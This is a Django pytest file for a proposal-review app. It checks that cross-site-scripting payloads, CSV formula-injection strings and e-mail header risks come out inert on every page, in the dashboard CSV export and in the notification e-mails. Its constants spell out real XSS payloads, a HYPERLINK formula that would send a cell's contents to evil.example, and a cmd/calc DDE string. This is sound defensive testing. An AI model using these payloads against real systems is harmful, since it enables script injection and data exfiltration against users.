"""Hostile text in every field a person can write comes out inert everywhere Stagegate shows it.

Script tags, event-handler attributes, `javascript:` links and Markdown images pointing elsewhere go in through
the same forms the pages post; every page, fragment, the GitLab preview, the dashboard, its CSV export and the
notification e-mails are then read back and inspected as a browser would parse them.
"""

from __future__ import annotations

import csv
import io
from html.parser import HTMLParser

import pytest
from django.contrib.auth.models import Group
from django.core import mail
from django.test import Client

from proposals import services
from proposals.forms import edit_sections, section_form_class
from proposals.models import Proposal
from reviews.models import OrrArea, Review
from tests.factories import UserFactory

MARK = "sg-xss"
HOSTILE = (
    f'<script>alert("{MARK}")</script> <img src=x onerror="alert(1)"> <a href="javascript:alert(2)">{MARK} link</a> '
    f"<svg onload=alert(3)></svg> ![{MARK} pixel](https://tracker.example/pixel.png) [{MARK} md](javascript:alert(4)) "
    '"><iframe src="https://evil.example/"></iframe> <style>body{display:none}</style> \' onmouseover=\'alert(5)'
)
HOSTILE_TITLE = f'=HYPERLINK("https://evil.example/?x="&A1,"{MARK}")<script>alert(6)</script>'
HOSTILE_SHORT = f'<img src=x onerror=alert(9)>{MARK} <script>alert(10)</script> <a href="javascript:alert(11)">x</a>'
HOSTILE_LABELS = "wg-ai-integration, <b onclick=alert(7)>x</b>, =cmd|' /C calc'!A0, @SUM(1+1), +1, -1"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class InertnessInspector(HTMLParser):
    """Collects everything in a page that could run script or fetch from elsewhere."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in {"href", "src", "action", "formaction", "xlink:href", "data"} and value.startswith(
                ("javascript:", "vbscript:", "data:text/html")
            ):
                self.problems.append(f"<{tag} {name}={value[:40]}>")
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.problems.append("inline <script>")
        if tag in {"img", "iframe", "frame", "object", "embed", "video", "audio", "source", "image"}:
            source = (attributes.get("src") or attributes.get("data") or "").strip()
            if not source.startswith("/") or source.startswith("//"):
                self.problems.append(f"<{tag} src={source[:40]}> loads from elsewhere")
        if tag in {"style", "base"}:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")


def assert_inert(html: str, *, where: str, shows_text: bool = True) -> None:
    inspector = InertnessInspector()
    inspector.feed(html)
    assert inspector.problems == [], f"{where}: hostile markup is live"
    if shows_text:
        assert MARK in html, f"{where}: the text itself should still be shown (escaped)"


pytestmark = pytest.mark.usefixtures("eager_celery")


@pytest.fixture
def people(db):
    groups = {}
    for area in OrrArea.objects.all():
        groups[area.key] = Group.objects.get_or_create(name=f"orr {area.key}")[0]
        area.reviewer_group = groups[area.key]
        area.save(update_fields=["reviewer_group"])
    return {
        "author": UserFactory(username="mallory", groups=["author"]),
        "reviewer": UserFactory(username="rosalind", groups=["reviewer", *(g.name for g in groups.values())]),
        "working_group": UserFactory(username="katherine", groups=["working group"]),
    }


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def write_everything_hostile(client: Client) -> Proposal:
    """Create a proposal and fill every field through the pages' own forms, as a browser would post them."""
    created = client.post("/proposals/new/", {"title": HOSTILE_TITLE})
    assert created.status_code == 302
    proposal = Proposal.objects.get(title=HOSTILE_TITLE)
    for section in edit_sections(proposal):
        proposal.refresh_from_db()
        form_class = section_form_class(proposal.definition, section.key)
        fields = form_class.section.fields
        values = services.section_values(proposal, fields)
        data = {"version": proposal.version, "base": services.section_fingerprint(values)}
        for name, field in form_class.base_fields.items():
            if name in {"version", "base", "confidential", "persona_tags"}:
                continue
            if name == "title":
                data[name] = HOSTILE_TITLE
            elif name == "labels":
                data[name] = HOSTILE_LABELS
            elif hasattr(field, "choices"):
                data[name] = "low"
            else:
                data[name] = f"{name}: {HOSTILE}"
        saved = client.post(f"/proposals/{proposal.pk}/sections/{section.key}/", data)
        assert saved.status_code == 302, (section.key, saved.content[:500])
    assert client.post(f"/proposals/{proposal.pk}/requirements/", {"text": HOSTILE}).status_code == 302
    link = {"url": "https://gitlab.example.com/research/1", "title": HOSTILE_SHORT}
    assert client.post(f"/proposals/{proposal.pk}/research/", link).status_code == 302
    # A javascript: "research link" is refused by the form; nothing is stored.
    client.post(f"/proposals/{proposal.pk}/research/", {"url": "javascript:alert(8)", "title": "x"})
    for review in proposal.reviews.select_related("area"):
        answer = {"answer": f"{review.area.key}: {HOSTILE}", "base": review.answer_sha256}
        assert client.post(f"/reviews/answer/{proposal.pk}/{review.area.key}/", answer).status_code == 302
    proposal.refresh_from_db()
    return proposal


def test_hostile_text_in_every_field_is_inert_on_every_page_csv_and_email(
    people, settings, django_capture_on_commit_callbacks
):
    settings.SITE_URL = "https://stagegate.example.com"
    author = client_for(people["author"])
    proposal = write_everything_hostile(author)

    # It all went in: the text fields, the requirement, the research link, the answers.
    assert proposal.title == HOSTILE_TITLE
    assert proposal.user_problem == f"user_problem: {HOSTILE}"
    assert proposal.requirements.get().text == HOSTILE
    assert list(proposal.research_links.values_list("url", flat=True)) == ["https://gitlab.example.com/research/1"]
    assert all(MARK in review.answer for review in proposal.reviews.all())

    # Submitted, discussed and decided, so the reviewers' pages and the e-mails carry the hostile text too.
    Proposal.objects.filter(pk=proposal.pk).update(state=Proposal.State.IN_REVIEW)
    Review.objects.filter(proposal=proposal).update(status=Review.Status.IN_REVIEW)
    review = proposal.reviews.select_related("area").get(area__key="data")
    reviewer = client_for(people["reviewer"])
    with django_capture_on_commit_callbacks(execute=True):  # the e-mails go out once the writes commit
        assert reviewer.post(f"/reviews/{review.pk}/comments/", {"body": HOSTILE}).status_code == 302
        review.refresh_from_db()
        decision = {"kind": "changes_requested", "comment": HOSTILE, "answer_sha256": review.answer_sha256}
        assert reviewer.post(f"/reviews/{review.pk}/decide/", decision).status_code == 302

    pk = proposal.pk
    pages = {
        "list": (author, "/proposals/"),
        "search": (author, f"/proposals/?q={MARK}"),
        "detail": (author, f"/proposals/{pk}/"),
        "edit": (author, f"/proposals/{pk}/edit/"),
        "preview": (author, f"/proposals/{pk}/preview/"),
        "preview fragment": (author, f"/proposals/{pk}/preview/", {"HX-Request": "true"}),
        "checklist fragment": (author, f"/proposals/{pk}/checklist/", {"HX-Request": "true"}),
        "answers": (author, f"/reviews/answers/{pk}/"),
        "gates": (author, f"/reviews/proposal/{pk}/gates/"),
        "review": (reviewer, f"/reviews/{review.pk}/"),
        "my reviews": (reviewer, "/reviews/"),
        "dashboard": (client_for(people["working_group"]), "/dashboard/"),
        "dashboard search": (client_for(people["working_group"]), f"/dashboard/?q={MARK}"),
        "sync badge": (author, f"/gitlab/proposals/{pk}/sync/"),
    }
    for where, (client, url, *headers) in pages.items():
        response = client.get(url, headers=headers[0] if headers else None)
        assert response.status_code == 200, where
        assert_inert(
            response.content.decode(),
            where=where,
            shows_text=where not in {"sync badge", "gates", "checklist fragment"},
        )

    # The preview renders the issue as GitLab would, sanitised (checked above), and shows its Markdown as text.
    preview = author.get(f"/proposals/{pk}/preview/").content.decode()
    markdown_text = preview.split('data-testid="issue-markdown"', 1)[1]
    assert "&lt;script&gt;alert(&quot;sg-xss&quot;)&lt;/script&gt;" in markdown_text

    # An autosave's own response (the htmx fragment) is inert too.
    proposal.refresh_from_db()
    fields = section_form_class(proposal.definition, "problem").section.fields
    values = services.section_values(proposal, fields)
    fragment = author.post(
        f"/proposals/{pk}/sections/problem/",
        {
            "version": proposal.version,
            "base": services.section_fingerprint(values),
            "user_problem": HOSTILE + " again",
        },
        headers={"HX-Request": "true"},
    )
    assert fragment.status_code == 200
    assert_inert(fragment.content.decode(), where="autosave fragment", shows_text=False)

    # CSV: no cell a spreadsheet would run as a formula.
    export = client_for(people["working_group"]).get("/dashboard/proposals.csv")
    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(MARK in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []

    # E-mails are plain text only: nothing for a mail client to render or run, and no header injection.
    assert mail.outbox, "the decision and the comment are mailed"
    for message in mail.outbox:
        assert message.content_subtype == "plain"
        assert getattr(message, "alternatives", []) == []
        assert "\n" not in message.subject and "\r" not in message.subject
        assert "https://stagegate.example.com/" in message.body
